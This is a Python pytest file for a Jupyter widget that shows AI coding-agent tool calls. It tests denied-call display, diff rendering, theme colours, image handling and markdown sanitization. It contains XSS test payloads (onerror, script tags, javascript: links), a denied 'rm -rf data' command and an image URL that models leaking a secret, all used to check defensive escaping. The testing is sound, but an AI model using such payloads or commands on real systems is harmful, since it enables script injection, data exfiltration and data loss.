"""Tool cards live and saved: denied calls, reviewable diffs, MCP names, theme colours,
images, and the safety of the saved text/markdown part."""

from __future__ import annotations

import dataclasses
import html
import re

import pytest
from markdown_it import MarkdownIt

import kandev_nb
from kandev_nb.agent import events as ev
from kandev_nb.agent import tools as t
from kandev_nb.agent.turn import Turn
from kandev_nb.notebook import magic
from kandev_nb.notebook.widgets import TurnView, mime_bundle
from kandev_nb.notebook.widgets.recording import Recorder
from kandev_nb.render import card_html, diffs, mdsafe, theme
from kandev_nb.render import html as render
from tests.widgets.test_static import plain
from tests.widgets.widget_events import call, complete, result

OLD = "".join(f"    total_{i} = compute(values[{i}], scale=1.0)\n" for i in range(360))
NEW = "".join(f"    total_{i} = compute(values[{i}], scale=2.5)\n" for i in range(360))


def _turn(events: list[ev.AgentEvent]) -> Turn:
    turn = Turn(prompt="p", session_name="s")
    for i, e in enumerate(events):
        turn.add(e, float(i))
    return turn


def _denied_bash(by: str, message: str) -> tuple[ev.ToolCall, list[ev.AgentEvent]]:
    c = call("toolu_d", "Bash", {"command": "rm -rf data"})
    reason = message or "Permission to use Bash has been denied."
    return c, [
        c,
        ev.PermissionDecided(
            request_id="r1",
            tool_name="Bash",
            behavior="deny",
            decided_by=by,
            waited_ms=20_000,
            message=message,
            tool_use_id="toolu_d",
        ),
        result(c, reason, is_error=True),
        complete(),
    ]


# -- 18.4 denied tools ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("by", "who"),
    [
        ("person", "you"),
        ("timeout", "the approval timeout"),
        ("policy", "policy"),
        ("hook", "a hook"),
        ("settings", "Claude Code's permission settings"),
    ],
)
def test_a_denied_call_reads_as_denied_not_as_a_failed_run(rec: Recorder, by: str, who: str) -> None:
    _c, events = _denied_bash(by, "No! That folder is our only copy")
    v = TurnView("p")
    for e in events[:-1]:
        v.handle(e)
    live = plain(v.cards["toolu_d"].html.value)
    saved = mime_bundle(_turn(events))
    for text in (live, plain(saved["text/html"]), saved["text/markdown"]):
        assert f"denied by {who}" in text.replace("\\", "").replace("**", "")
        assert "No! That folder is our only copy" in text.replace("\\", "")
        assert "rm -rf data" in text.replace("\\", "")  # what was proposed stays visible
        assert "exit 1" not in text and "exit code" not in text and "stderr" not in text
    assert "⊘" in live and "✗" not in live and "kandev-denied" in v.cards["toolu_d"].box._dom_classes
    assert "kandev-status-denied" in saved["text/html"]


def test_an_allowed_call_that_failed_still_shows_its_exit_code(rec: Recorder) -> None:
    c = call("t1", "Bash", {"command": "false"})
    events: list[ev.AgentEvent] = [
        c,
        ev.PermissionDecided(
            request_id="r1", tool_name="Bash", behavior="allow", decided_by="person", waited_ms=10, tool_use_id="t1"
        ),
        result(c, "boom", is_error=True, structured={"stdout": "", "stderr": "boom", "exitCode": 1}),
    ]
    h = plain(mime_bundle(_turn(events))["text/html"])
    assert "exit 1" in h and "allowed by you" in h and "denied" not in h


# -- 18.5 diffs -------------------------------------------------------------------------------


def test_a_replaced_block_pairs_each_old_line_with_its_new_line_and_marks_the_words() -> None:
    diff, added, removed = t.unified_diff(OLD, NEW, "calc.py")
    assert (added, removed) == (360, 360)
    rows = diffs.diff_rows(diff)
    changed = [r for r in rows if r.kind in ("del", "add")]
    assert [r.kind for r in changed[:4]] == ["del", "add", "del", "add"]  # old above new, not 360 then 360
    first_del, first_add = changed[0], changed[1]
    assert first_del.old_no == 1 and first_add.new_no == 1
    assert [s for s, marked in first_del.parts if marked] == ["1", "0"]  # scale=1.0: only the digits differ
    assert [s for s, marked in first_add.parts if marked] == ["2", "5"]
    view = diffs.diff_view(diff)
    assert view.cut and view.shown_rows == diffs.DIFF_PREVIEW_ROWS and view.total_rows == len(rows)
    assert diffs.diff_view(diff, full=True).html.count("kandev-diff-del") == 360


def test_hunks_keep_their_context_and_line_numbers() -> None:
    old = "".join(f"line {i}\n" for i in range(1, 41))
    new = old.replace("line 5\n", "line five\n").replace("line 30\n", "")
    rows = diffs.diff_rows(t.unified_diff(old, new, "a.txt")[0])
    assert [r.parts[0][0] for r in rows if r.kind == "hunk"] == ["@@ -2,7 +2,7 @@", "@@ -27,7 +27,6 @@"]
    ctx = [r for r in rows if r.kind == "ctx"]
    assert (ctx[0].old_no, ctx[0].new_no, ctx[0].parts[0][0]) == (2, 2, "line 2")
    assert next(r for r in rows if r.kind == "del" and r.old_no == 30)


def test_the_whole_diff_is_one_click_away_live_and_folded_in_the_saved_view(rec: Recorder) -> None:
    c = call("toolu_e", "Edit", {"file_path": "/p/calc.py", "old_string": OLD, "new_string": NEW})
    v = TurnView("p")
    v.handle(c)
    card = v.cards["toolu_e"]
    # offered while the edit waits for approval, before any tool_result
    assert card.more is not None and card.more.description == "Show the whole diff"
    assert card.html.value.count("kandev-diff-del") < 360
    card.more.click()
    assert card.html.value.count("kandev-diff-del") == 360 and card.more.disabled
    events: list[ev.AgentEvent] = [c, result(c, "The file /p/calc.py has been updated."), complete()]
    saved = mime_bundle(_turn(events))
    h = saved["text/html"]
    details = h[h.index('class="kandev-whole-diff"') :]
    assert "Show the whole diff" in details and details.count("kandev-diff-del") == 360
    assert "Show the whole diff" in saved["text/markdown"]


def test_the_python_path_a_card_names_works_as_written(rec: Recorder) -> None:
    c = call("toolu_p", "Edit", {"file_path": "/p/calc.py", "old_string": OLD, "new_string": NEW})
    b = call("toolu_q", "Bash", {"command": "seq 100000"})
    big = "".join(f"{i}\n" for i in range(100000))
    turn = _turn([c, result(c, "updated"), b, result(b, big, structured={"stdout": big, "stderr": ""}), complete()])
    h = plain(mime_bundle(turn)["text/html"])
    paths = re.findall(r"kandev_nb\.tool_call\('[^']+'\)[\w.\[\]]*", h)
    assert {p.split(")")[0] for p in paths} == {"kandev_nb.tool_call('toolu_p'", "kandev_nb.tool_call('toolu_q'"}
    magic._turns.append(turn)
    try:
        values = {p: eval(p, {"kandev_nb": kandev_nb}) for p in paths}
    finally:
        magic._turns.remove(turn)
    assert any(v == big for v in values.values())
    assert any(isinstance(v, str) and v.count("\n-") == 360 for v in values.values())
    with pytest.raises(KeyError, match="no tool call 'toolu_p'"):
        kandev_nb.tool_call("toolu_p")


# -- 18 smaller: MCP names ------------------------------------------------------------------


def test_mcp_tool_names_read_as_server_and_tool(rec: Recorder) -> None:
    assert card_html.tool_label("mcp__kernel__list_variables") == "kernel · list_variables"
    assert card_html.tool_label("Bash") == "Bash" and card_html.tool_label("mcp__odd") == "mcp__odd"
    c = call("t1", "mcp__kernel__list_variables", {})
    v = TurnView("p")
    v.handle(c)
    assert "kernel · list_variables" in plain(v.cards["t1"].html.value)
    saved = mime_bundle(_turn([c, result(c, "[]"), complete()]))
    assert "kernel · list_variables" in plain(saved["text/html"]) and "mcp__kernel" not in plain(saved["text/html"])
    assert "kernel · list_variables" in saved["text/markdown"]


# -- 18.9 theme colours ---------------------------------------------------------------------

_COLOUR = re.compile(r"(?:^|;|\")\s*(color|background|border(?:-left|-top)?)\s*:\s*([^;\"]+)")


def test_every_colour_of_a_saved_turn_follows_the_jupyterlab_theme() -> None:
    from tests.widgets.test_static import sample_turn

    turn = sample_turn()
    c = call("t9", "Edit", {"file_path": "/p/calc.py", "old_string": OLD[:200], "new_string": NEW[:200]})
    turn.add(c, 99.0)
    turn.add(result(c, "ok"), 100.0)
    h = mime_bundle(turn)["text/html"]
    values = [v.strip() for _k, v in _COLOUR.findall(h)]
    assert len(values) > 20
    for value in values:
        literal = re.sub(r"var\(--jp-[\w-]+,[^)]*\)|rgba\([^)]*\)", "", value)
        assert not re.search(r"#[0-9a-fA-F]{3,6}\b|\bwhite\b|\bblack\b", literal), value


def test_code_is_coloured_with_the_editor_theme_variables() -> None:
    # issue 16: token classes (no inline style per token); the stylesheet colours them with
    # the editor's variables (this test asserted inline styles before)
    h = render.code_html("def f(x):\n    return 'a'  # c\n", "python")
    inner = h.split(">", 1)[1]
    # what a person sees is the token's text and class; how Pygments escapes a quote is its own affair
    # (2.20 writes &#39;, 2.21 a bare ')
    tokens = {
        (cls, html.unescape(text)) for cls, text in re.findall(r'<span class="(kt-[\w-]+)">([^<]*)</span>', inner)
    }
    assert ("kt-k", "def") in tokens and ("kt-s", "'a'") in tokens
    assert "style=" not in inner
    css = theme.stylesheet()
    assert ".kt-k{color:var(--jp-mirror-editor-keyword-color," in css
    assert ".kt-s{color:var(--jp-mirror-editor-string-color," in css
    assert set(re.findall(r'class="(kt-[\w-]+)"', inner)) <= set(re.findall(r"\.(kt-[\w-]+)\{", css))


# -- 17.6 remote images ----------------------------------------------------------------------


def test_a_remote_image_is_a_link_not_a_request(rec: Recorder) -> None:
    answer = "See ![chart](http://host/leak?k=SECRET) and ![local](plot.png)."
    h = render.markdown_html(answer)
    assert "<img" not in h and 'href="http://host/leak?k=SECRET"' in h and "🖼 chart" in h
    assert "<img" in render.markdown_html("![dot](data:image/png;base64,iVBORw0KGgo=)")  # inline: fetches nothing
    saved = mime_bundle(_turn([ev.MessageChunk(text=answer), complete()]))
    assert "<img" not in saved["text/html"]
    rendered = MarkdownIt("commonmark", {"html": True}).render(saved["text/markdown"])
    assert "<img" not in rendered and "http://host/leak?k=SECRET" in rendered


# -- 17.8 the saved text/markdown part ------------------------------------------------------

EVIL = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(2)</script>",
    "[click](javascript:alert(3))",
    "[c2](JaVaScRiPt&#58;alert(4))",
    "[c3](javascript\\:alert(5))",
    "<a href='javascript:alert(6)'>x</a>",
    "[r]: javascript:alert(7)\n\n[ref][r]",
    "<javascript:alert(8)>",
]


def test_the_saved_markdown_part_escapes_raw_html_like_the_html_part() -> None:
    bash = call("t1", "Bash", {"command": "cat page.html", "description": "<img src=x onerror=alert(9)>"})
    events: list[ev.AgentEvent] = [
        ev.MessageChunk(text="Answer:\n\n" + "\n\n".join(EVIL) + "\n\nkeep `<b>code</b>` and **bold**\n"),
        ev.Reasoning(text="thinking <script>alert(10)</script>"),
        ev.Todos(items=(t.TodoItem(id="1", description="<img src=y onerror=alert(11)>", status="pending"),)),
        bash,
        result(bash, "<script>alert(12)</script>", structured={"stdout": "<script>alert(12)</script>", "stderr": ""}),
        complete(),
    ]
    md = mime_bundle(_turn(events))["text/markdown"]
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(md)  # as a frontend would
    assert "<img" not in rendered and "<script" not in rendered  # shown as text, never as tags
    tags = re.findall(r"<[a-z][^>]*>", rendered)
    assert not [tag for tag in tags if re.search(r"javascript|onerror|\bsrc=", tag, re.IGNORECASE)]
    assert all(h.startswith(("https://", "#")) for h in re.findall(r'href="([^"]*)"', rendered))
    assert "<code>&lt;b&gt;code&lt;/b&gt;</code>" in rendered and "<strong>bold</strong>" in rendered
    assert "&lt;script&gt;alert(12)&lt;/script&gt;" in rendered  # shell output still readable, in a fence


def test_safe_markdown_keeps_fences_and_safe_links() -> None:
    text = "```html\n<b>x</b>\n```\n[ok](https://x.org/a?b=1&c=2) [rel](docs/a.md)"
    out = mdsafe.safe_markdown(text)
    assert out.startswith("```html\n<b>x</b>\n```\n")
    rendered = MarkdownIt("commonmark", {"html": True}).render(out)
    assert 'href="https://x.org/a?b=1&amp;c=2"' in rendered and 'href="docs/a.md"' in rendered
    assert mdsafe.code_span("a`b") == "``a`b``"


# -- 18 smaller: a figure stays with its card -------------------------------------------------

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="


def test_a_figure_in_a_tool_result_shows_on_its_card_live_and_saved(rec: Recorder) -> None:
    content = [
        {"type": "text", "text": "result:\nText(0.5, 1.0, 'units')"},
        {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": PNG}},
        {"type": "image", "source": {"type": "url", "url": "http://host/x.png"}},
    ]
    assert t.tool_result_images(content) == (f"data:image/png;base64,{PNG}",)  # a URL source fetches: dropped
    c = call("t1", "mcp__kernel__run_code", {"code": "plot()"})
    update = result(c, content).model_copy(update={"images": t.tool_result_images(content)})
    assert "images" not in update.model_dump()  # kept out of the ledger and transcripts
    v = TurnView("p")
    v.handle(c)
    v.handle(update)
    assert f'src="data:image/png;base64,{PNG}"' in v.cards["t1"].html.value
    h = mime_bundle(_turn([c, update, ev.MessageChunk(text="Here it is."), complete(cost_usd=0.01)]))["text/html"]
    card = h.index("kernel · run_code")
    assert card < h.index('class="kandev-figure"') < h.index("Here it is.") < h.index("kandev-footer")
    assert "http://host/x.png" not in h


def test_a_huge_diff_stays_bounded_and_says_where_the_rest_is() -> None:
    old = "".join(f"a{i} = {i}\n" for i in range(diffs.DIFF_FULL_MAX_ROWS))
    new = "".join(f"a{i} = {i + 1}\n" for i in range(diffs.DIFF_FULL_MAX_ROWS))
    c = call("toolu_h", "Write", {"file_path": "/p/big.py", "content": new})
    payload = t.ModifyFile(
        tool="Edit",
        file_path="/p/big.py",
        mutations=(
            t.FileMutation(
                type="replace", old_content=old, new_content=new, diff=t.unified_diff(old, new, "big.py")[0]
            ),
        ),
    )
    whole = diffs.diff_view(payload.mutations[0].diff, full=True)
    assert whole.cut and whole.shown_rows == diffs.DIFF_FULL_MAX_ROWS
    h = card_html.modify_file_html(
        payload, where=f"kandev_nb.tool_call({c.tool_call_id!r}).update.normalized", saved=True
    )
    assert "all 10,001 are in kandev_nb.tool_call('toolu_h').update.normalized.mutations[0].diff" in plain(h)


def test_the_live_stylesheet_uses_theme_variables_for_every_colour() -> None:
    from kandev_nb.notebook.widgets.stream import ASSETS

    css = (ASSETS / "kandev.css").read_text()
    values = re.findall(r"(?:color|background|border(?:-left|-color)?)\s*:\s*([^;}]+)", css)
    assert len(values) > 10
    for value in values:
        literal = re.sub(r"var\(--jp-[\w-]+,\s*[^)]*\)|rgba\([^)]*\)", "", value)
        assert not re.search(r"#[0-9a-fA-F]{3,6}\b|\bwhite\b", literal), value


async def test_the_approval_card_names_an_mcp_tool_as_its_tool_card_does(rec: Recorder) -> None:
    from tests.widgets.test_approval import card_of, request

    v = TurnView("p")
    v.handle(request("mcp__kernel__run_cell", {"cell_id": "data"}))
    what = plain(card_of(v).what.value)
    assert "Claude wants to use kernel · run_cell" in what and "mcp__kernel__run_cell" not in what


# -- the decision's note (PermissionDecided.note) ----------------------------------------------


@pytest.mark.parametrize("behavior", ["allow", "deny"])
def test_the_decision_note_is_on_the_live_card_and_both_saved_copies(rec: Recorder, behavior: str) -> None:
    c = call("t1", "Bash", {"command": "python -c 'print(1)'"})
    note = "the policy let an interpreter through: python"
    events: list[ev.AgentEvent] = [
        c,
        ev.PermissionDecided(
            request_id="r1",
            tool_name="Bash",
            behavior=behavior,
            decided_by="policy",  # type: ignore[arg-type]
            waited_ms=5,
            tool_use_id="t1",
            note=note,
            message="no" if behavior == "deny" else "",
        ),
        result(c, "1\n", structured={"stdout": "1\n", "stderr": "", "exitCode": 0}),
        complete(),
    ]
    v = TurnView("p")
    for e in events[:-1]:
        v.handle(e)
    saved = mime_bundle(_turn(events))
    for text in (plain(v.cards["t1"].html.value), plain(saved["text/html"]), saved["text/markdown"]):
        assert note in text.replace("\\", "")
        assert ("allowed by policy" if behavior == "allow" else "denied by") in text.replace("*", "")


async def test_the_approval_card_shows_the_proposed_action_as_the_tool_card_does(rec: Recorder) -> None:
    from kandev_nb.render import card_view as cv
    from tests.widgets.test_approval import card_of, request

    for name, tool_input in (
        ("Edit", {"file_path": "/p/calc.py", "old_string": OLD, "new_string": NEW}),
        ("Bash", {"command": "make deploy", "description": "ship it", "timeout": 5}),
    ):
        v = TurnView("p")
        v.handle(request(name, tool_input))
        c = call("toolu_1", name, tool_input)
        v.handle(c)
        main = [p for p in v.cards["toolu_1"].view.parts if isinstance(p, cv.Diff | cv.Code | cv.Text)]
        assert main and card_html.parts_html(main) in v.cards["toolu_1"].html.value
        # the same parts from the same switch (the approval card names no expression under a cut diff)
        proposed = [dataclasses.replace(p, where="") if isinstance(p, cv.Diff) else p for p in main]
        assert card_html.parts_html(proposed, wrap=True) in card_of(v).what.value  # lines broken (issue 23.4)
